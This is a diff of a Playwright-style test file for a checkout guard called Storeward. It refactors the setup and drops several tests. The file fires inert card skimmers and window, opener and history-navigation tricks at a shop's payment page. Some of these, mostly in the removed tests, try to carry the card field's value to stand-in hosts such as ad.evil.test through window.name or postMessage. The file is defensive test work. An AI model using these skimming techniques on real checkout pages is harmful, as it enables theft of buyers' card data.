@@ -1,15 +1,13 @@
-// Twenty-three inert skimmers of our own, one for each way out of a page (reference/payments.md 4.3), and what tries to undo the guard, on a
-// shop's paying page behind Storeward: its policy, its guard script, its reports, its alerts. The script that they stand in was approved, as
-// a shop's own would be that turned bad. The first run is without protection: there they get through, so the others can fail.
+// Twenty-three inert skimmers of our own, one for each way out of a page (reference/payments.md 4.3), on a shop's paying page behind Storeward:
+// its policy, its guard script, its reports, its alerts. The script that they stand in was approved, as a shop's own would be that turned bad.
+// The first run is without protection: there they get through, so the others can fail. What tries to undo the guard is in escapes.test.mjs.
 import assert from 'node:assert/strict';
-import { mkdtemp, readFile, rm } from 'node:fs/promises';
-import os from 'node:os';
+import { readFile } from 'node:fs/promises';
 import path from 'node:path';
 import { after, before, test } from 'node:test';
 
-import { sleep } from './lib/processes.mjs';
-import { marker, payingShop, run, runAndClick, sink, victim, withoutGuard } from './lib/skimmers.mjs';
-import { runInFrontOf } from './lib/stand.mjs';
+import { payingPlace, until } from './lib/paying.mjs';
+import { marker, runAndClick } from './lib/skimmers.mjs';
 
 /** What is left open, and who sees it: docs/checkout.md, "What stays open". */
 const WATCHED = {
@@ -19,79 +17,25 @@ const WATCHED = {
 /** Beside them with no guard: what a content policy leaves open by itself, as it was measured. */
 const BY_POLICY_ALONE = ['location', 'meta-refresh', 'preconnect', 'same-origin', 'webrtc', 'webrtc-in-a-frame', 'window-open'];
 
-let attacker;
-let shop;
-let stand;
-/** Browsers, each with a profile of its own: as it is, as one that has no lists of hosts, and that one with the guard's tag taken out of the page. */
-const browsers = {};
-const homes = [];
+let place;
 let ways;
-let tricks;
 let links;
+let browsers;
 
 before(async () => {
-  attacker = await sink();
-  shop = await payingShop(attacker.port);
-  stand = await runInFrontOf(shop.upstream, '[checkout]\nmode = "learn"\npages = ["/checkout"]\nproviders = ["stripe", "paypal"]\n');
-  for (const [name, hosts] of [['whole', true], ['old', false], ['bare', false]]) {
-    homes.push(await mkdtemp(path.join(os.tmpdir(), 'storeward-victim-')));
-    browsers[name] = await victim(homes.at(-1), { ca: stand.ready.ca, attacker, hosts });
-  }
-  await withoutGuard(browsers.bare, stand.ready.ca);
-  const page = await browsers.old.newPage();
-  await page.goto(`${shop.home}/checkout`);
-  ({ ways, tricks, links } = await page.evaluate(() => globalThis.skimmers));
-  await page.close();
+  place = await payingPlace();
+  ({ browsers, skimmers: { ways, links } } = place);
 });
 
-after(async () => {
-  for (const browser of Object.values(browsers)) await browser.close();
-  await stand?.stop();
-  await shop?.stop();
-  await attacker?.stop();
-  for (const home of homes) await rm(home, { recursive: true, force: true, maxRetries: 5 });
-});
+after(() => place?.stop());
 
-/** Where these get through the page is gone: each has one of its own. */
-const LEAVING = [
-  'form', 'location', 'meta-refresh', 'natives-changed', 'lists-changed-for-a-link', 'lists-changed-for-a-window',
-  'frame-with-a-page', 'frame-written-with-a-script', 'frame-written-with-an-element', 'own-window-lent', 'blob-gone-to',
-  'window-that-opened-this', 'frame-that-leaves-from-a-sandbox',
-  // One at a time: a window above all others takes the click for itself, and so does the question for a passkey.
-  'window-above-all', 'passkey-of-another', 'passkey-for-another',
-];
-
-const guarded = () => new URL('/checkout', stand.ready.shop).href;
-
-/** Runs those given and gives the names of those by which the marker arrived, in order. */
-async function through(browser, address, names, { patience = 6000, atOnce = names.length, least = [] } = {}) {
-  const staying = names.filter((name) => !LEAVING.includes(name));
-  const batches = names.filter((name) => LEAVING.includes(name)).map((name) => [name]);
-  while (staying.length > 0) batches.push(staying.splice(0, atOnce));
-  const found = [];
-  for (const batch of batches) {
-    const stays = !batch.some((name) => LEAVING.includes(name));
-    found.push(...(await run(browser, address, batch, { attacker, notes: shop.notes, patience, least, stays })));
-  }
-  return found.sort();
-}
-
-const listed = async (...words) => JSON.parse(await stand.say(['checkout', ...words, '--json']));
-
-/** What `look` gives once it fits. */
-async function until(what, look, fits) {
-  let found;
-  for (const end = Date.now() + 90_000; Date.now() < end;) {
-    found = await look();
-    if (fits(found)) return found;
-    await sleep(500);
-  }
-  return assert.fail(`not in time: ${what}: ${JSON.stringify(found)}`);
-}
+const guarded = () => place.guarded();
+const through = (...given) => place.through(...given);
+const listed = (...words) => place.listed(...words);
 
 test('without protection every one of the twenty-three gets through', async () => {
   assert.equal(ways.length, 23);
-  assert.deepEqual(await through(browsers.old, `${shop.home}/checkout`, ways, { patience: 60_000 }), [...ways].sort());
+  assert.deepEqual(await through(browsers.old, `${place.shop.home}/checkout`, ways, { patience: 60_000 }), [...ways].sort());
 });
 
 test('behind a guard that only learns they get through as well, and the inventory names where to', async () => {
@@ -107,17 +51,7 @@ test('behind a guard that only learns they get through as well, and the inventor
 });
 
 test('the script is approved, and the page held to what was', async () => {
-  const rows = await listed('scripts', '--show', 'all');
-  const own = rows.find(({ kind, address }) => kind === 'script' && address.endsWith('/skimmers.js'));
-  await stand.say(['checkout', 'approve', own.id, '--scope', 'address', '--owner', 'The shop', '--why', 'It turned bad after this']);
-  // Code of the page that has a nonce, and as such a nonce that is worth stealing.
-  const code = rows.filter(({ kind }) => kind === 'inline');
-  assert.equal(code.length, 2);
-  for (const { id } of code) await stand.say(['checkout', 'approve', id, '--scope', 'shape', '--owner', 'The shop', '--why', 'Shows the total']);
-  await stand.say(['checkout', 'hold', '/checkout', 'enforce', '--yes']);
-  const page = await browsers.whole.newPage();
-  const answer = async () => (await page.goto(guarded())).headers();
-  const headers = await until('the policy', answer, (headers) => headers['content-security-policy'] !== undefined);
+  const headers = await place.hold();
   assert.match(headers['content-security-policy'], /default-src 'none'; script-src [^;]*\/skimmers\.js/);
   assert.match(headers['content-security-policy'], /script-src-elem 'unsafe-inline' [^;,]*\/skimmers\.js/);
   assert.equal(headers['cross-origin-opener-policy'], 'same-origin-allow-popups');
@@ -126,23 +60,7 @@ test('the script is approved, and the page held to what was', async () => {
   for (const host of ['https://*.js.stripe.com', 'https://*.paypal.com', new URL(guarded()).origin]) {
     assert.ok(headers['connection-allowlist'].includes(`"${host}/*"`), host);
   }
-  assert.match(await page.content(), /<head><script src="\/\.storeward\/checkout\/guard\.js/);
-  await page.close();
 });
-
-/**
- * Waits for alerts with these words. Of one client sixty messages a minute are read, and the runs before may have used them up: those that
- * are to be told are tried once more then.
- */
-async function told(names, wanted) {
-  const isThere = (alerts) => wanted.every((words) => alerts.some(({ what, closed_at: closed }) => what.trim() === words && !closed));
-  await sleep(3_000);
-  await until(`alerts: ${wanted}`, async () => {
-    const alerts = await listed('alerts');
-    if (!isThere(alerts)) await through(browsers.old, guarded(), names, { patience: 1_500 });
-    return alerts;
-  }, isThere);
-}
 
 /** That no more than two got out, each of them known. */
 function isWatched(out) {
@@ -153,7 +71,7 @@ function isWatched(out) {
 test('behind policy and guard at most two are open, and staff are told of what was tried', async () => {
   isWatched(await through(browsers.old, guarded(), ways));
   const wanted = ['preconnect seen evil.test', 'webrtc blocked', 'window_open blocked evil.test', 'navigate blocked evil.test'];
-  await told(['preconnect', 'webrtc', 'window-open', 'location'], wanted);
+  await place.told(['preconnect', 'webrtc', 'window-open', 'location'], wanted);
 });
 
 test('with the browser’s own list of hosts, only what goes through Storeward is open', async () => {
@@ -180,8 +98,8 @@ test('providers’ hosts are reached as the policy names them, and none beside t
       await put('script', `https://${host}/s?${word}`);
       await ask(`https://${host}/c?${word}`);
     }
-  }, { word, port: attacker.port });
-  const reached = attacker.arrived.filter((line) => line.includes(word)).map((line) => line.split(/[ ?]/)[1]);
+  }, { word, port: place.attacker.port });
+  const reached = place.attacker.arrived.filter((line) => line.includes(word)).map((line) => line.split(/[ ?]/)[1]);
   assert.deepEqual(reached, ['js.stripe.com/s', 'm.js.stripe.com/s', 'www.paypal.com/s', 'api.stripe.com/c', 'www.sandbox.paypal.com/c', 'q.stripe.com/i']);
   await page.close();
 });
@@ -192,135 +110,13 @@ test('what goes through Storeward does not go with a card’s number in it, and 
   const sent = (body) => page.evaluate(async (text) => (await fetch('/checkout/note', { method: 'POST', body: text })).status, body);
   assert.equal(await sent('a word'), 204);
   assert.equal(await sent('4242 4242 4242 4242'), 422);
-  assert.ok(shop.notes.includes('a word'));
-  assert.ok(!shop.notes.some((note) => /4242/.test(note)), 'the shop was handed a card\'s number');
+  assert.ok(place.shop.notes.includes('a word'));
+  assert.ok(!place.shop.notes.some((note) => /4242/.test(note)), 'the shop was handed a card\'s number');
   await page.close();
 });
 
 test('the policy of the page alone leaves seven open', async () => {
   assert.deepEqual(await through(browsers.bare, guarded(), ways, { least: BY_POLICY_ALONE }), BY_POLICY_ALONE);
-});
-
-test('nothing undoes the guard: fresh natives, changed natives, links, windows, the nonce', async () => {
-  assert.deepEqual(await through(browsers.old, guarded(), tricks), []);
-  await told(['link-by-hand', 'passkey-told-of'], ['popup blocked evil.test', 'credentials blocked stripe.com']);
-});
-
-test('nor does a link that a person clicks, wherever it stands and whenever its address is put in', async () => {
-  const out = async (browser, patience) => {
-    const found = [];
-    for (const name of links) if (await runAndClick(browser, guarded(), name, { attacker, patience })) found.push(name);
-    return found;
-  };
-  assert.deepEqual(await out(browsers.old, 1_500), []);
-  assert.deepEqual(await out(browsers.bare, 30_000), links, 'some do not even work without the guard');
-});
-
-test('no window reaches another: not the one that opened it, of the shop or of another host', async () => {
-  for (const browser of [browsers.old, browsers.whole]) {
-    const page = await browser.newPage();
-    await page.goto(guarded());
-    await page.evaluate(() => document.querySelector('#terms').setAttribute('rel', 'opener'));
-    await page.evaluate(() => document.querySelector('#terms').setAttribute('href', '/checkout'));
-    const [second] = await Promise.all([browser.waitForEvent('page'), page.locator('#terms').click()]);
-    await second.waitForLoadState();
-    assert.equal(await second.evaluate(() => globalThis.opener), null);
-    await browser.route('https://opener.evil.test/**', (route) => route.fulfill({
-      contentType: 'text/html',
-      body: `<button>Sale</button><script>
-        onmessage = ({ data }) => { document.title = data; };
-        document.querySelector("button").onclick = () => {
-          const shop = open(${JSON.stringify(guarded())});
-          setInterval(() => shop.postMessage("which card?", "*"), 100);
-        };</script>`,
-    }));
-    await page.goto('https://opener.evil.test/');
-    const [shopping] = await Promise.all([browser.waitForEvent('page'), page.locator('button').click()]);
-    await shopping.waitForLoadState();
-    await shopping.locator('#card').fill('4000');
-    await sleep(1_500);
-    assert.equal(await page.title(), '');
-    assert.equal(await shopping.evaluate(() => globalThis.opener), null);
-    for (const open of [page, second, shopping]) await open.close();
-  }
-});
-
-test('a message hands over no window of the shop that nobody guards', async () => {
-  for (const browser of [browsers.old, browsers.whole]) {
-    const back = '<script>opener.postMessage("paid", "*")</script>';
-    await browser.route('**/returned', (route) => route.fulfill({ contentType: 'text/html', body: back }));
-    const page = await browser.newPage();
-    await page.goto(guarded());
-    await page.evaluate(() => {
-      const link = document.querySelector('#terms');
-      for (const [name, value] of [['rel', 'opener'], ['target', 'second'], ['href', '/returned']]) link.setAttribute(name, value);
-      addEventListener('message', ({ data, source }) => {
-        document.title = `${data} by ${source === null ? 'nobody' : 'somebody'}`;
-      });
-    });
-    await page.locator('#terms').click();
-    await page.waitForFunction(() => document.title.startsWith('paid'));
-    assert.equal(await page.title(), 'paid by nobody');
-    await page.close();
-    await browser.unroute('**/returned');
-  }
-});
-
-/** Ways back to the page of another host that led here: past it, by a frame, faster than anybody counts, from where another step ended. */
-const BACK = {
-  back: () => history.back(),
-  'by as many steps as say something': () => history.go(-5),
-  'two at once': () => {
-    history.pushState(1, '', '#1');
-    for (let count = 0; count < 5; count += 1) history.back();
-  },
-  'steps that overtake each other': () => {
-    for (const at of [1, 2]) history.pushState(at, '', `#${at}`);
-    for (const by of [-1, -2, -1, -2, -1]) history.go(by);
-  },
-  'once another is done': () => {
-    history.pushState(1, '', '#1');
-    for (const owner of [window, navigation]) owner.addEventListener(owner === window ? 'popstate' : 'navigate', () => history.go(-1));
-    history.back();
-  },
-  'by a frame': () => {
-    const { contentWindow: inner } = document.body.appendChild(document.createElement('iframe'));
-    Object.getOwnPropertyDescriptor(inner, 'name').set.call(window, document.querySelector('#card').value);
-    inner.history.pushState(1, '');
-    inner.history.go(-9);
-    inner.History.prototype.back.call(history);
-  },
-};
-
-test('a page goes back to no other host’s, and its name is told nobody there', async () => {
-  for (const browser of [browsers.old, browsers.whole]) {
-    const page = await browser.newPage();
-    const body = `<a href="${guarded()}">Sale</a><script>onpageshow = () => { document.title = location.search + name; }</script>`;
-    await page.route('https://ad.evil.test/**', (route) => route.fulfill({ contentType: 'text/html', body }));
-    for (const [how, act] of Object.entries(BACK)) {
-      await page.goto('https://ad.evil.test/ad');
-      await page.evaluate(() => [0, 1, 2, 3, 4, 5, 6, 7, 8].forEach((at) => history.pushState(null, '', `/ad?${at}`)));
-      await Promise.all([page.waitForURL(guarded()), page.locator('a').click()]);
-      await page.locator('#card').fill('4000');
-      await page.locator('h1').click();
-      await page.evaluate(() => { window.name = document.querySelector('#card').value; });
-      await page.evaluate(act);
-      await sleep(700);
-      assert.equal(new URL(page.url()).pathname, '/checkout', how);
-      assert.equal(await page.evaluate(() => window.name), '4000');
-      // The buyer goes where they like, and nothing goes with them.
-      for (let count = 0; count < 4 && page.url().startsWith(guarded()); count += 1) await page.goBack();
-      assert.equal(page.url(), 'https://ad.evil.test/ad?8');
-      assert.equal(await page.title(), '?8', how);
-    }
-    await until('an alert of it', async () => {
-      await page.goto(guarded());
-      await page.evaluate(() => history.back());
-      await sleep(1_500);
-      return listed('alerts');
-    }, (alerts) => alerts.some(({ what }) => what.trim() === 'navigate blocked'));
-    await page.close();
-  }
 });
 
 test('a hint is told that is gone again, that stands in a frame, that was another a moment ago', async () => {
@@ -353,20 +149,12 @@ test('a hint is told that is gone again, that stands in a frame, that was anothe
   await page.close();
 });
 
-test('those would get through otherwise', async () => {
-  // The policies refuse these by themselves: workers, files by a nonce that was stolen, a way to a window that went to a page like any other.
-  const refused = ['worker-of-text', 'window-that-opened-this', ...tricks.filter((trick) => trick.startsWith('nonce-'))];
-  const some = tricks.filter((trick) => !refused.includes(trick));
-  const out = await through(browsers.bare, guarded(), some, { patience: 60_000, atOnce: 5 });
-  assert.deepEqual(out, some.sort(), 'some do not even work without the guard');
-});
-
 test('what is kept of it names no more than a host', async () => {
-  const report = await stand.say(['checkout', 'report']);
+  const report = await place.stand.say(['checkout', 'report']);
   const kept = [report, JSON.stringify(await listed('alerts')), JSON.stringify(await listed('scripts', '--show', 'all'))].join('\n');
   assert.match(kept, /evil\.test/);
   assert.doesNotMatch(kept, /card[0-9a-f]{12}/, 'it holds what was to be stolen');
-  const log = await readFile(path.join(stand.dir, 'storeward.log'), 'utf8');
+  const log = await readFile(path.join(place.stand.dir, 'storeward.log'), 'utf8');
   assert.doesNotMatch(log, /card[0-9a-f]{12}/);
 });
 
@@ -401,8 +189,18 @@ test('a buyer notices nothing: the form is sent, links and windows of the shop o
   await page.close();
 });
 
+test('no link that a person clicks leads away, wherever it stands and whenever its address is put in', async () => {
+  const out = async (browser, patience) => {
+    const found = [];
+    for (const name of links) if (await runAndClick(browser, guarded(), name, { attacker: place.attacker, patience })) found.push(name);
+    return found;
+  };
+  assert.deepEqual(await out(browsers.old, 1_500), []);
+  assert.deepEqual(await out(browsers.bare, 30_000), links, 'some do not even work without the guard');
+});
+
 test('a guard that learns again tells, and stops nothing', async () => {
-  await stand.say(['checkout', 'hold', '/checkout', 'learn']);
+  await place.stand.say(['checkout', 'hold', '/checkout', 'learn']);
   const page = await browsers.whole.newPage();
   await until('the policy is gone', async () => (await page.goto(guarded())).headers(), (headers) => headers['content-security-policy'] === undefined);
   await page.close();
